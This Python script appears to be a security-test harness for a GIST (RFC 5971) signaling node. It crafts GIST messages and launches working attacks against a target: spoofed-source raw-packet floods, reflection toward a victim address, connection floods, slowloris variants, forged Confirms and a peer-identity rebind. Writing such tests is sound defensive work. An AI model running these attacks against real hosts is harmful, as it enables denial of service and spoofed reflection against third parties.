#!/usr/bin/env python3
"""Attacks on a GIST node (RFC 5971), for tests/security/test-gist-*.sh.

Builds GIST messages from the RFC 5971 layouts (shared/GIST-WIRE.md) and sends
them as an attacker would: raw IPv4 with forged sources, many TCP connections,
messages trickled a byte at a time. Only toward addresses inside the test's
namespaces. Every mode is bounded in count and time and prints one summary line.

  gist_attack.py spoof-flood TARGET COUNT SPOOF_NET [probe]  Queries from COUNT forged sources (S=1, NLI = source),
                                                        with "probe": each carrying a NetServ NSLP PROBE request
  gist_attack.py reflect TARGET COUNT VICTIM SPOOF_SRC  Queries whose NLI names VICTIM (S=1 from us, S=0 from SPOOF_SRC)
  gist_attack.py malformed-reflect TARGET COUNT VICTIM  malformed GIST from VICTIM's (forged) address: each would earn an Error
  gist_attack.py listen ADDR SECONDS                    count GIST datagrams arriving at ADDR:270
  gist_attack.py conn-flood TARGET PORT SRC_LIST SECS   keep reopening TCP connections from each source address
  gist_attack.py slowloris TARGET PORT SECS             MAs that never finish a message / never Confirm / announce a huge one
  gist_attack.py confirm-forge TARGET PORT              Confirms without a cookie and with a forged one, D-mode and C-mode
  gist_attack.py rebind TARGET PORT PEER_ID_HEX         a real handshake claiming another node's peer identity on a new TCP connection
"""
import ipaddress
import os
import random
import resource
import select
import socket
import struct
import sys
import time

MAGIC = 0x4E04BDA5
NSLPID = 32767
QUERY, RESPONSE, CONFIRM, DATA, ERROR, HELLO = 0, 1, 2, 3, 4, 5
S_FLAG, R_FLAG = 0x80, 0x40


def obj(typ, value):
    """Object TLV: A/B = 00 (mandatory), type 12 bits, length in 32-bit words; value padded to 4."""
    value += b"\0" * (-len(value) % 4)
    return struct.pack("!HH", typ & 0x0FFF, len(value) // 4) + value


def mri(src, dst):
    """Path-coupled MRI, IPv4, /32 -> /32, no protocol or ports, downstream."""
    return obj(0, struct.pack("!BBH", 0, 0, 4 << 12) + socket.inet_aton(src) + socket.inet_aton(dst) + bytes([32, 32, 0, 0]))


def nli(peer_id, addr, validity_ms=30000, ttl=64):
    return obj(2, struct.pack("!BBH", len(peer_id), ttl, 4 << 12) + struct.pack("!I", validity_ms) + peer_id + socket.inet_aton(addr))


def message(typ, body, s=True, r=False, hops=1, c=False):
    flags = (S_FLAG if s else 0) | (R_FLAG if r else 0)
    return struct.pack("!BBHHBB", 1, hops, len(body) // 4, NSLPID, (0x80 if c else 0) | typ, flags) + body


def query(src, dst, nli_addr, peer_id, sid, s=True, validity_ms=30000, nslp_data=None):
    body = mri(src, dst) + obj(1, sid) + nli(peer_id, nli_addr, validity_ms) + obj(5, os.urandom(4))
    if nslp_data is not None:
        body += obj(8, nslp_data)
    return message(QUERY, body, s=s, r=True, hops=32, c=True)


def nslp_probe():
    """A NetServ NSLP request (nsis/NSLP-FORMAT.md): version 1, kind request, length, request id,
    one REQUEST-LINE TLV with method PROBE and no module (a PROBE of the whole node)."""
    tlv = struct.pack("!HH", 1, 1) + b"\x03\0\0\0"
    return struct.pack("!BBHII", 1, 1, 0, 12 + len(tlv), random.getrandbits(32)) + tlv


def confirm(src, dst, nli_addr, peer_id, sid, cookie=None):
    body = mri(src, dst) + obj(1, sid) + nli(peer_id, nli_addr)
    if cookie is not None:
        body += obj(6, cookie)
    return message(CONFIRM, body)


def udp_magic(msg):
    return struct.pack("!I", MAGIC) + msg


def ipv4_udp(src, dst, payload, sport=270, dport=270):
    """IPv4 + UDP with the given (forged) source; the kernel fills the IP checksum; UDP checksum 0 (allowed over IPv4)."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    return hdr + udp


def spoof_flood(target, count, net, with_data=""):
    count = int(count)
    data = nslp_probe() if with_data == "probe" else None
    hosts = ipaddress.ip_network(net)
    if hosts.num_addresses < count + 2:
        sys.exit("spoof network %s has fewer than %d addresses" % (net, count))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    base = int(hosts.network_address) + 1
    t0 = time.time()
    sent = 0
    for i in range(count):
        src = str(ipaddress.IPv4Address(base + i))
        pkt = ipv4_udp(src, target, udp_magic(query(src, target, src, os.urandom(16), os.urandom(16), nslp_data=data)))
        try:
            raw.sendto(pkt, (target, 0))
            sent += 1
        except (BlockingIOError, OSError):
            time.sleep(0.001)          # the veth queue is full; a flood sender does not care, we only pace
    print("spoof-flood: %d Queries%s from %d forged sources in %.1f s" % (sent, " with a PROBE" if data else "", count, time.time() - t0))


def reflect(target, count, victim, spoof_src):
    """S=1 Queries from our own address naming the victim, and S=0 ones with a forged flow source naming it."""
    count = int(count)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    me = s.getsockname()[0]
    for i in range(count):
        s.sendto(udp_magic(query(me, target, victim, os.urandom(16), os.urandom(16), s=True)), (target, 270))
        raw.sendto(ipv4_udp(spoof_src, target, udp_magic(query(spoof_src, target, victim, os.urandom(16), os.urandom(16), s=False))), (target, 0))
        if i % 200 == 199:
            time.sleep(0.01)
    print("reflect: %d S=1 and %d S=0 Queries naming %s" % (count, count, victim))


def malformed_reflect(target, count, victim):
    """A 12-byte datagram whose common header claims more than it carries (an Error of 72 bytes, 6 times
    its size answers it), from the victim's address, COUNT times."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    bad = struct.pack("!I", MAGIC) + struct.pack("!BBHHBB", 1, 1, 9, NSLPID, DATA, S_FLAG)
    t0 = time.time()
    for i in range(int(count)):
        raw.sendto(ipv4_udp(victim, target, bad), (target, 0))
        if i % 500 == 499:
            time.sleep(0.01)
    print("malformed-reflect: %d malformed datagrams from %s in %.1f s" % (int(count), victim, time.time() - t0))


def listen(addr, secs):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, 270))
    s.settimeout(0.2)
    n = 0
    end = time.time() + float(secs)
    while time.time() < end:
        try:
            s.recv(65536)
            n += 1
        except socket.timeout:
            pass
    print(n)


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))


def conn_flood(target, port, sources, secs):
    """From each source address, keep opening connections (never a Confirm), replacing any the node closes."""
    raise_nofile()
    port, end = int(port), time.time() + float(secs)
    srcs = sources.split(",")
    opened = closed = 0
    live = {}
    poller = select.poll()
    while time.time() < end:
        for src in srcs:
            for _ in range(2):
                if len(live) >= 4000:
                    break
                c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                c.setblocking(False)
                c.bind((src, 0))
                try:
                    c.connect((target, port))
                except BlockingIOError:
                    pass
                live[c.fileno()] = c
                poller.register(c, select.POLLIN)
                opened += 1
        time.sleep(0.05)
        # what the node closed (EOF or reset) is replaced on the next round; the rest stays open
        for fd, ev in poller.poll(0):
            c = live.pop(fd, None)
            if c is None:
                continue
            poller.unregister(fd)
            closed += 1
            c.close()
    print("conn-flood: %d connections opened from %d addresses, %d closed by the node, %d still open" % (opened, len(srcs), closed, len(live)))
    for c in live.values():
        c.close()


def slowloris(target, port, secs):
    """Three kinds of MA that hold a connection without doing GIST's work:
    trickle: a common header announcing a 4 KiB message, then one byte a second;
    idle-hello: whole MA-Hello messages every second, never a Confirm;
    huge: a header announcing a message far larger than any node accepts."""
    raise_nofile()
    port, end = int(port), time.time() + float(secs)
    trickle = [socket.create_connection((target, port)) for _ in range(6)]
    hello = [socket.create_connection((target, port)) for _ in range(2)]
    huge = socket.create_connection((target, port))
    for c in trickle:
        c.sendall(struct.pack("!BBHHBB", 1, 1, 1024, NSLPID, DATA, S_FLAG))
    huge.sendall(struct.pack("!BBHHBB", 1, 1, 0xFFFF, NSLPID, DATA, S_FLAG) + b"\0" * 64)
    hello_msg = message(HELLO, obj(10, struct.pack("!I", 0)), s=False)
    hello_msg = hello_msg[:4] + b"\0\0" + hello_msg[6:]           # MA-Hello has NSLPID 0
    closed = {"trickle": 0, "idle-hello": 0, "huge": 0}
    alive = {"trickle": list(trickle), "idle-hello": list(hello), "huge": [huge]}
    while time.time() < end and any(alive.values()):
        for kind, conns in alive.items():
            for c in list(conns):
                try:
                    if kind == "trickle":
                        c.send(b"\0")
                    elif kind == "idle-hello":
                        c.send(hello_msg)
                    else:
                        c.send(b"\0" * 16)
                    r, _, _ = select.select([c], [], [], 0)
                    if r and c.recv(4096) == b"":
                        raise ConnectionResetError
                except OSError:
                    closed[kind] += 1
                    conns.remove(c)
                    c.close()
        time.sleep(1)
    print("slowloris: closed by the node: %s; still open after %ss: %s" % (
        ",".join("%s=%d" % kv for kv in closed.items()), secs, ",".join("%s=%d" % (k, len(v)) for k, v in alive.items())))
    for conns in alive.values():
        for c in conns:
            c.close()


def confirm_forge(target, port):
    """Confirms that would install state without a handshake: no cookie, a forged cookie; in D-mode and over TCP."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    s.connect((target, 270))
    me = s.getsockname()[0]
    n = 0
    for cookie in (None, os.urandom(28)):
        for _ in range(10):
            s.send(udp_magic(confirm(me, target, me, os.urandom(16), os.urandom(16), cookie)))
            n += 1
    c = socket.create_connection((target, int(port)))
    for cookie in (None, os.urandom(28)):
        c.sendall(confirm(me, target, me, os.urandom(16), os.urandom(16), cookie))
        n += 1
    time.sleep(0.5)
    c.close()
    print("confirm-forge: %d Confirms sent without a valid cookie" % n)


def objects(msg):
    """(type, value) of each object after the 8-byte common header."""
    out, i = [], 8
    while i + 4 <= len(msg):
        h = struct.unpack("!I", msg[i:i + 4])[0]
        n = (h & 0xFFF) * 4
        out.append(((h >> 16) & 0xFFF, msg[i + 4:i + 4 + n]))
        i += 4 + n
    return out


def rebind(target, port, peer_hex):
    """Gets a genuine responder cookie for our own address but another node's peer identity, then
    Confirms with it over a fresh TCP connection: the node must not move that peer's MA to us."""
    peer = bytes.fromhex(peer_hex)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.connect((target, 270))
    me = u.getsockname()[0]
    u.close()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    u.bind((me, 270))
    u.settimeout(3)
    sid = os.urandom(16)
    u.sendto(udp_magic(query(me, target, me, peer, sid)), (target, 270))
    cookie = None
    try:
        while cookie is None:
            r = u.recv(65536)[4:]
            if len(r) > 8 and r[6] & 0x7F == RESPONSE:
                cookie = dict(objects(r)).get(6)
    except socket.timeout:
        sys.exit("rebind: no Response from %s" % target)
    c = socket.create_connection((target, int(port)), timeout=3)
    c.sendall(confirm(me, target, me, peer, sid, cookie))
    try:
        closed = c.recv(1) == b""
    except (socket.timeout, OSError):
        closed = False
    print("rebind: Confirm with a valid cookie claiming peer %s sent over a new connection; node closed it: %s" % (peer_hex, "yes" if closed else "no"))


if __name__ == "__main__":
    modes = {"spoof-flood": spoof_flood, "reflect": reflect, "malformed-reflect": malformed_reflect, "listen": listen, "conn-flood": conn_flood,
             "slowloris": slowloris, "confirm-forge": confirm_forge, "rebind": rebind}
    if len(sys.argv) < 2 or sys.argv[1] not in modes:
        sys.exit(__doc__)
    modes[sys.argv[1]](*sys.argv[2:])
